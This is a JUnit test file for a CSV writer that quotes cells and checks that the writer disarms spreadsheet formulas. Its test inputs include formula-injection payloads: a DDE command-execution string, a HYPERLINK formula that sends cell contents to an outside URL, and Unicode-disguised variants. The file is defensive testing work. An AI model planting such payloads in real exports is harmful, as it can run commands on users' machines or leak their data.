package io.patkeeper.ui;

import java.io.IOException;
import java.io.StringWriter;
import java.io.UncheckedIOException;
import java.util.Arrays;
import java.util.List;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

class CsvTableTests {

	@Test
	void writesAByteOrderMarkAndALineForEachRow() throws IOException {
		StringWriter out = new StringWriter();
		CsvTable table = new CsvTable(out);
		table.addRow(List.of("one", 2));
		table.addRow(Arrays.asList(null, true));
		assertThat(out).hasToString("\uFEFFone,2\r\n,true\r\n");
	}

	@Test
	void quotesCellsWithSpecialCharacters() {
		assertThat(cell("plain, no")).isEqualTo("\"plain, no\"");
		assertThat(cell("say \"hi\"")).isEqualTo("\"say \"\"hi\"\"\"");
		assertThat(cell("two\r\nlines")).isEqualTo("\"two\r\nlines\"");
		assertThat(cell("\"")).isEqualTo("\"\"\"\"");
		assertThat(cell("plain o'clock \uD83D\uDD11")).isEqualTo("plain o'clock \uD83D\uDD11");
		assertThat(cell("plain; no")).as("a separator in some locales").isEqualTo("\"plain; no\"");
		assertThat(cell("")).isEmpty();
	}

	@ParameterizedTest
	@ValueSource(strings = { "=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\nx", "\0x", "=", "\uFF1D1", "\uFF0B1",
			"\uFF0D1", "\uFF201", " =1", "\t=1", "\u00A0=1", "\u3000\uFF1D1", "\uFEFF=1", "\u200B@x",
			"=HYPERLINK(\"http://example.com?\"&A1,\"x\")", "=cmd|' /C calc'!A0", "-\n=1" })
	void disarmsFormulas(String formula) {
		String cell = cell(formula);
		boolean quoted = cell.startsWith("\"");
		String content = quoted ? cell.substring(1, cell.length() - 1).replace("\"\"", "\"") : cell;
		assertThat(content).startsWith("'");
		assertThat(content.replace("'", "")).isEqualTo(formula.replace("'", ""));
		assertThat(quoted).isEqualTo(formula.matches("(?s).*[\",;\\x00-\\x1f].*"));
	}

	@ParameterizedTest
	@CsvSource(quoteCharacter = '`', textBlock = """
			x;=1+1        | x;'=1+1
			x; @SUM(A1)   | x;' @SUM(A1)
			x\\t=1+1      | x\\t'=1+1
			x\\r=1+1      | x\\r'=1+1
			x\\r\\n-1      | x\\r\\n'-1
			=1;=2         | '=1;'=2
			x;y;z         | x;y;z
			""", delimiter = '|')
	void disarmsFormulasAfterOtherSeparators(String text, String disarmed) {
		assertThat(cell(text.translateEscapes())).isEqualTo('"' + disarmed.translateEscapes() + '"');
	}

	@ParameterizedTest
	@ValueSource(strings = { "a=1", "deploy-2", "user@host", "'=1", "1-1", "release +1", "git: https://x on -host" })
	void leavesOtherTextUnchanged(String text) {
		assertThat(cell(text)).isEqualTo(text);
	}

	private static String cell(String text) {
		StringWriter out = new StringWriter();
		try {
			new CsvTable(out).addRow(List.of(text));
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return out.toString().substring(1).replaceFirst("\r\n$", "");
	}

}
